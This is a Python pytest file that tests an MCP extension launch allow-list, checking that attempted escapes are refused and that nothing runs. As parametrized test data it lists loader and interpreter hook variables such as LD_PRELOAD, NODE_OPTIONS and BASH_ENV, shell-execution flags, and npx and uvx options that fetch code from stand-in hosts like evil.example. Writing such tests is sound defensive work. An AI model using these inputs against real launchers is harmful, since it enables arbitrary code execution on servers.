"""The extension_commands allow-list as an attacker (or a careless admin) would try to escape it.

Every refused launch must start nothing: the fake runners here write a marker file the moment they
run, and each test checks that the marker never appears.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
import yaml

from goose_api.errors import BadRequest, ConfigurationError, Forbidden
from goose_api.mcp.hosts import HostPolicy
from goose_api.mcp.policy import LaunchPolicy
from goose_api.mcp.registry import ExtensionRegistry
from goose_api.settings import Settings
from tests.support.mcp_fixtures import (  # noqa: F401
    MISBEHAVING,
    NO_DEVELOPER,
    ROOT,
    everything_stdio,
    make_registry,
    make_settings,
    misbehaving,
    python_server,
    registry_for,
)

pytestmark = pytest.mark.timeout(120)
SYSTEM_PATH = "/usr/bin:/bin"  # the server's PATH in these registries (npx, node, env live there)


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "escaped"


def fake_runner(directory: Path, name: str, marker: Path) -> Path:
    """An executable that proves it ran by writing ``marker``."""
    directory.mkdir(exist_ok=True)
    path = directory / name
    path.write_text(f"#!/bin/sh\necho \"$0 $*\" > '{marker}'\nexit 1\n")
    path.chmod(0o755)
    return path


def stdio(cmd: str, *args: str, **fields) -> dict:
    return {"type": "stdio", "name": "x", "cmd": cmd, "args": list(args), "timeout": 20, **fields}


def refused(registry: ExtensionRegistry, config: dict, marker: Path, *texts: str) -> str:
    with pytest.raises(Forbidden) as info:
        registry.add(config)
    assert info.value.status == 403
    for text in texts:
        assert text in info.value.message, info.value.message
    assert not marker.exists(), "the refused command ran"
    assert config["name"] not in registry.names()
    return info.value.message


# --- the executable ------------------------------------------------------------------

def test_envs_cannot_point_an_allowed_name_at_another_program(make_registry, marker, tmp_path):
    fake_runner(tmp_path / "bin", "npx", marker)
    registry = make_registry(extension_commands=("npx",), env={"PATH": SYSTEM_PATH})
    refused(registry, stdio("npx", "-y", "pkg", envs={"PATH": str(tmp_path / "bin")}), marker, "PATH")


def test_the_allow_list_matches_the_resolved_executable_not_the_name(make_registry, marker, tmp_path):
    impostor = fake_runner(tmp_path / "bin", "npx", marker)
    registry = make_registry(extension_commands=("npx",), env={"PATH": SYSTEM_PATH})
    refused(registry, stdio(str(impostor), "-y", "pkg"), marker, "is not allowed", str(impostor))
    policy = LaunchPolicy(("npx",), SYSTEM_PATH)
    assert policy.command("/usr/bin/npx", ["-y", "pkg"]) == "/usr/bin/npx"
    assert policy.command("/usr/lib/node_modules/npm/bin/npx-cli.js", ["-y", "pkg"]).endswith("npx-cli.js")
    assert policy.command("npx", ["-y", "pkg"]) == "/usr/bin/npx", "a name is looked up in the server's PATH"


def test_a_real_python_server_starts_by_any_path_to_the_allowed_interpreter(make_registry):
    registry = make_registry(extension_commands=(os.path.realpath(sys.executable),))
    registry.add(misbehaving("fake"))  # sys.executable: the venv's link to that interpreter
    assert registry.call_tool("fake__echo", {"text": "hi"}) == [{"type": "text", "text": "hi"}]


def test_relative_and_missing_commands_are_bad_requests(make_registry):
    registry = make_registry()
    for cmd in ("./server", "bin/server", "/nonexistent/server", "no-such-command-anywhere"):
        with pytest.raises(BadRequest, match="neither an executable on the server's PATH nor the absolute path"):
            registry.add(stdio(cmd))


# --- the environment -----------------------------------------------------------------

@pytest.mark.parametrize("name", ["PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES",
                                  "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "NODE_OPTIONS", "NODE_PATH",
                                  "npm_config_script_shell", "NPM_CONFIG_USERCONFIG", "BASH_ENV", "ENV", "PERL5OPT",
                                  "RUBYOPT", "GIT_SSH_COMMAND", "GIT_EXEC_PATH", "JAVA_TOOL_OPTIONS", "UV_INDEX_URL",
                                  "PIP_INDEX_URL", "HOME", "XDG_CONFIG_HOME", "BASH_FUNC_ls%%", "SHELLOPTS", "PS4",
                                  "OPENSSL_CONF", "SSL_CERT_FILE", "GCONV_PATH", "DOTNET_STARTUP_HOOKS"])
def test_envs_cannot_set_loader_or_interpreter_hooks(make_registry, marker, tmp_path, name):
    fake_runner(tmp_path / "bin", "tool", marker)
    registry = make_registry(env={"PATH": f"{tmp_path / 'bin'}:{SYSTEM_PATH}"})
    refused(registry, stdio("tool", envs={name: str(tmp_path)}), marker, name)


def test_env_keys_are_held_to_the_same_rule(make_registry, marker, tmp_path):
    fake_runner(tmp_path / "bin", "tool", marker)
    registry = make_registry(env={"PATH": f"{tmp_path / 'bin'}:{SYSTEM_PATH}", "LD_PRELOAD": "/tmp/evil.so"})
    refused(registry, stdio("tool", env_keys=["LD_PRELOAD"]), marker, "LD_PRELOAD")


def test_ordinary_envs_still_reach_the_server(make_registry):
    registry = make_registry(extension_commands=(sys.executable,))
    registry.add(misbehaving("fake", envs={"API_TOKEN": "x", "MY_SETTING": "y"}))
    assert registry.names() == ["fake"]


# --- runner options ------------------------------------------------------------------

@pytest.mark.parametrize("args", [
    ["-c", "touch {marker}"], ["--call", "touch {marker}"], ["--call=touch {marker}"], ["-yc", "touch {marker}"],
    ["-y", "--node-options=--require=/tmp/x.js", "pkg"], ["--registry=http://evil.example", "pkg"],
    ["--userconfig", "/tmp/npmrc", "pkg"], ["-y", "/tmp/local-package"], ["-y", "./here"], ["-y", "file:/tmp/x"],
    ["-y", "github:evil/pkg"], ["-y", "git+https://evil.example/x.git"], ["-y", "https://evil.example/x.tgz"],
    ["-p", "/tmp/local-package", "bin"], ["--package=git+ssh://x", "bin"], ["-y", "npm:evil@1"]])
def test_npx_options_that_run_any_code_are_refused(make_registry, marker, args):
    registry = make_registry(extension_commands=("npx",), env={"PATH": SYSTEM_PATH})
    refused(registry, stdio("npx", *(a.format(marker=marker) for a in args)), marker,
            "allowed by extension_commands, but not with these arguments")


def test_npx_may_run_registry_packages_and_pass_them_any_arguments():
    policy = LaunchPolicy(("npx",), SYSTEM_PATH)
    for args in (["-y", "@modelcontextprotocol/server-everything", "stdio"], ["mcp-server@1.2.3"],
                 ["--yes", "--", "pkg", "-c", "its own -c"], ["-q", "-p", "@scope/pkg@latest", "bin", "--eval", "x"]):
        assert policy.command("npx", args) == "/usr/bin/npx", args


@pytest.mark.parametrize("args", [
    ["--from", "./evil", "tool"], ["--from=/tmp/evil", "tool"], ["--from", "git+https://evil.example/x", "tool"],
    ["--from", "pkg @ https://evil.example/x.whl", "tool"], ["--with-editable", ".", "tool"],
    ["--with", "./evil", "tool"], ["--with-requirements", "r.txt", "tool"], ["--index-url", "http://evil", "tool"],
    ["--default-index=http://evil", "tool"], ["-f", "/tmp/wheels", "tool"], ["--python", "/tmp/evil-python", "tool"],
    ["--env-file", ".env", "tool"], ["/tmp/evil.py"], ["./evil"]])
def test_uvx_options_that_run_any_code_are_refused(make_registry, marker, tmp_path, args):
    fake_runner(tmp_path / "bin", "uvx", marker)
    registry = make_registry(extension_commands=("uvx",), env={"PATH": f"{tmp_path / 'bin'}:{SYSTEM_PATH}"})
    refused(registry, stdio("uvx", *args), marker, "not with these arguments")


def test_uvx_may_run_registry_tools(tmp_path, marker):
    uvx = fake_runner(tmp_path / "bin", "uvx", marker)
    policy = LaunchPolicy(("uvx",), f"{tmp_path / 'bin'}:{SYSTEM_PATH}")
    for args in (["mcp-server-time"], ["mcp-server-fetch@latest", "--ignore-robots-txt"], ["-q", "--offline", "x==1.2"],
                 ["--from", "mcp-server-git[extra]>=0.6", "mcp-server-git", "--repository", "/srv/repo"],
                 ["--python", "3.12", "--with", "httpx,rich", "tool"]):
        assert policy.command("uvx", args) == str(uvx), args


@pytest.mark.parametrize("cmd, args", [
    ("python", ["-c", "import os"]), ("python", ["-Ic", "x"]), ("python", ["-m", "timeit", "x"]),
    ("python", ["-W", "ignore::evil.Warn", "s.py"]), ("node", ["-e", "x"]), ("node", ["--eval=x"]),
    ("node", ["-r", "/tmp/x.js", "s.js"]), ("node", ["--import", "data:text/javascript,x"]),
    ("node", ["--inspect=0.0.0.0:9229", "s.js"]), ("sh", ["-c", "id"]), ("bash", ["-lc", "id"]),
    ("env", ["sh", "-c", "id"]), ("env", ["PATH=/tmp", "npx"])])
def test_interpreter_and_wrapper_options_that_run_code_are_refused(make_registry, marker, cmd, args):
    executable = sys.executable if cmd == "python" else cmd
    registry = make_registry(extension_commands=(executable,), env={"PATH": SYSTEM_PATH})
    refused(registry, stdio(executable, *args), marker, "not with these arguments")


def test_allow_code_options_lets_an_entry_take_them(make_registry, tmp_path):
    policy = LaunchPolicy(({"cmd": "sh", "allow_code_options": True},), SYSTEM_PATH)
    assert policy.command("sh", ["-c", "exec server"]) == "/usr/bin/sh"
    registry = make_registry(extension_commands=({"cmd": sys.executable, "allow_code_options": True},))
    with pytest.raises(Exception) as info:  # it runs (and fails the handshake): the policy let it through
        registry.add(python_server("inline", "-c", "import sys; sys.exit(3)"))
    assert info.value.status == 502


# --- pinned arguments ----------------------------------------------------------------

def test_args_prefix_pins_the_package_scope(make_registry, marker):
    entry = {"cmd": "npx", "args_prefix": ["-y", "@modelcontextprotocol/"]}
    registry = make_registry(extension_commands=(entry,), env={"PATH": SYSTEM_PATH})
    for args in (["-y", "@evil/server"], ["@modelcontextprotocol/server-everything"],
                 ["-y", "@modelcontextprotocol/../../tmp/x"], ["-y"]):
        refused(registry, stdio("npx", *args), marker, "must begin with ['-y', '@modelcontextprotocol/']")
    refused(registry, stdio("npx", "-y", "@modelcontextprotocol/x", "-c", "id", envs={"NODE_OPTIONS": "-r x"}),
            marker, "NODE_OPTIONS")
    policy = LaunchPolicy((entry,), SYSTEM_PATH)
    assert policy.command("npx", ["-y", "@modelcontextprotocol/server-everything", "stdio"]) == "/usr/bin/npx"


def test_pinned_arguments_may_hold_options_the_runner_would_refuse(make_registry, marker):
    entry = {"cmd": sys.executable, "args_prefix": [MISBEHAVING]}
    registry = make_registry(extension_commands=(entry, {"cmd": sys.executable, "args_prefix": ["-m", "mod"]}))
    registry.add(misbehaving("fake"))
    assert registry.names() == ["fake"]
    refused(make_registry(extension_commands=(entry,)), python_server("other", "/tmp/other.py"), marker,
            f"must begin with [{MISBEHAVING!r}]")
    policy = LaunchPolicy(({"cmd": sys.executable, "args_prefix": ["-m", "mcp_server_time"]},), SYSTEM_PATH)
    assert policy.command(sys.executable, ["-m", "mcp_server_time", "--local-timezone", "UTC"]) == sys.executable
    with pytest.raises(Forbidden):
        policy.command(sys.executable, ["-m", "timeit", "x"])


def test_configured_extensions_are_held_to_the_policy_too(tmp_path, marker):
    settings = make_settings(tmp_path / "data", extension_commands=("npx",), env={"PATH": SYSTEM_PATH},
                             extensions={**NO_DEVELOPER, "evil": {"type": "stdio", "name": "evil", "cmd": "npx",
                                                                  "args": ["-c", f"touch {marker}"], "enabled": True}})
    registry = registry_for(settings)
    try:
        [detail] = registry.details()
        assert detail["status"] == "failed" and "not with these arguments" in detail["last_error"]
        assert not marker.exists()
    finally:
        registry.close()


@pytest.mark.parametrize("entries", [[{"cmd": "npx", "args": ["-y"]}], [{"cmd": ""}], [{"cmd": "npx",
                                     "args_prefix": "-y"}], [{"cmd": "npx", "allow_code_options": "yes"}], [3]])
def test_a_malformed_allow_list_stops_the_start(tmp_path, entries):
    with pytest.raises(ConfigurationError, match="extension_commands"):
        registry_for(make_settings(tmp_path / "data", extension_commands=tuple(entries)))


def test_node_servers_still_start_from_their_script(make_registry):
    registry = make_registry(extension_commands=("node",), env={"PATH": SYSTEM_PATH})
    registry.add(everything_stdio("ev"))
    assert "ev__echo" in {tool.name for tool in registry.tools()}


def test_the_documented_allow_list_and_hosts_load_as_written(tmp_path):
    blocks = [yaml.safe_load(block.split("```", 1)[0]) for block in
              (ROOT / "docs" / "security.md").read_text().split("```yaml\n")[1:]]
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({k: v for block in blocks for k, v in block.items()}))
    settings = Settings.load(environ={"HOME": str(tmp_path), "GOOSE_API_CONFIG": str(config)}, cwd=tmp_path)
    rules = LaunchPolicy(settings.extension_commands, SYSTEM_PATH).rules
    assert [(rule.cmd, rule.args_prefix, rule.allow_code_options) for rule in rules] == [
        ("uvx", (), False), ("npx", ("-y", "@modelcontextprotocol/"), False),
        ("/usr/bin/python3", ("-m", "mcp_server_fetch"), False), ("/opt/mcp/start.sh", (), True)]
    hosts = HostPolicy(settings.extension_hosts)
    assert hosts.names == {"mcp.internal"} and len(hosts.networks) == 2
